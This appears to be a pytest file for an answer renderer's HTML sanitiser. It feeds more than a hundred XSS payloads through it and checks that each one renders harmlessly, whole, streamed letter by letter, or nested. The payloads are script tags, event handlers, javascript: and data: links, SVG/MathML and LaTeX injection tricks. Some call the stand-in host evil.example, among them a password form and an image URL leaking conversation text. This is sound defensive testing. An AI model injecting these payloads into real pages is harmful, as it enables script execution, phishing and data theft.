"""Nothing in an answer runs, loads, submits or leaves its box, at no moment of its arrival."""

import nh3
import pytest

from server.render import Rendering, blocks
from server.render.sanitise import clean
from tests.safe_html import faults

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline#http://evil.example xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<body onload=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a id=location name=cookie href=x>x</a>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<marquee onstart=alert(1)>",
    "<custom-element onclick=alert(1)>",
    "</div></div><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](\\\\evil.example)",
    "[x](http:/logout)",
    "[x](https:logout)",
    "[x](?q=1)",
    "[x](#id)",
    '[x](https://evil.example"onclick=alert(1))',
    "[x](https://evil.example 'a\" onmouseover=\"alert(1)')",
    "[x](https://[::1)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x][y]\n\n[y]: https://a.example "t\\" onclick=\\"alert(1)"',
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "javascript://a.example/%0aalert(1)",
    "https://a.example/'onmouseover='alert(1)",
    'https://a.example/"><script>alert(1)</script>',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/secret?q=conversation)",
    '![x" onerror="alert(1)](https://a.example/x.png)',
    "![<script>alert(1)</script>](https://a.example/x.png)",
    "[![x](https://a.example/x.png)](https://b.example)",
    "# <img src=x onerror=alert(1)> {#id onclick=alert(1)}",
    "| <script>alert(1)</script> | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | `<b>` |",
    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
    '```"><img/src/onerror=alert(1)>\nx',
    "~~~html\n<img src=x onerror=alert(1)>\n~~~",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "- [x] <input type=checkbox onclick=alert(1)>\n- [ ] [x](javascript:alert(1))",
    "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    'x[^"onclick=1]\n\n[^"onclick=1]: [x](javascript:alert(1))',
    r"$\href{javascript:alert(1)}{x}$",
    r"$\href{https://evil.example}{x}$",
    r"$\text{</math><script>alert(1)</script>}$",
    r"$$\text{<img src=x onerror=alert(1)>}$$",
    r"$\style{position:fixed}{x}\class{a}{b}\cssId{c}{d}$",
    r"$\color{red;position:fixed}{x}$",
    r'\(\begin{array}{c" onclick="alert(1)}x\end{array}\)',
    r"\[\begin{equation}x\label{body}\tag{<b>}\end{equation}\]",
    r"\[\includegraphics{https://evil.example/x.png}\]",
    r"$\unknown{<script>alert(1)</script>}$",
    "$$\n<script>alert(1)</script>\n$$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<scr\ud800ipt>alert(1)</script>",
    "*<script>*alert(1)</script>**<b onclick=x>**",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_does_no_harm(payload):
    assert faults("".join(blocks(payload))) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_does_no_harm_at_any_moment_of_its_arrival(payload):
    rendering = Rendering("Before.\n\n")

    for seq, letter in enumerate(payload, 1):
        rendering.feed(letter, seq)
        rendering.update()

        assert faults("".join(block.html for block in rendering.blocks)) == []


@pytest.mark.parametrize(
    "around", ["> {}", "- {}", "1. a\n   {}", "| {} |\n|---|\n| {} |", "**{}**", "[{}](https://a.example)"]
)
def test_a_payload_does_no_harm_inside_something_else(around):
    for payload in PAYLOADS:
        assert faults("".join(blocks(around.replace("{}", payload)))) == [], payload


@pytest.mark.parametrize("payload", [payload for payload in PAYLOADS if payload.isascii() and "<" in payload])
def test_the_sanitiser_alone_would_stop_raw_html(payload):
    left = faults(clean(f"<p>{payload}</p>"))

    assert [fault for fault in left if not fault.endswith("opens here")] == []


def test_the_test_sees_what_a_careless_sanitiser_lets_through():
    assert faults(nh3.clean("<img src=https://evil.example/x.png>")) == ["<img>", "<img src>", "<img> never closed"]


def test_the_host_shown_is_the_host_reached():
    html = "".join(blocks("[bank.example](https://bank.example@evil.example/ 'bank.example')"))

    assert 'title="evil.example"' in html


def test_a_host_in_other_letters_is_shown_in_ascii():
    assert 'title="xn--e1awd7f.com"' in "".join(blocks("[a](https://еріс.com)"))


def test_an_image_is_a_link_that_names_its_host():
    (html,) = blocks("![a cat](https://pictures.example/cat.png)")

    assert 'class="external image-link"' in html
    assert ">a cat (pictures.example)</a>" in html
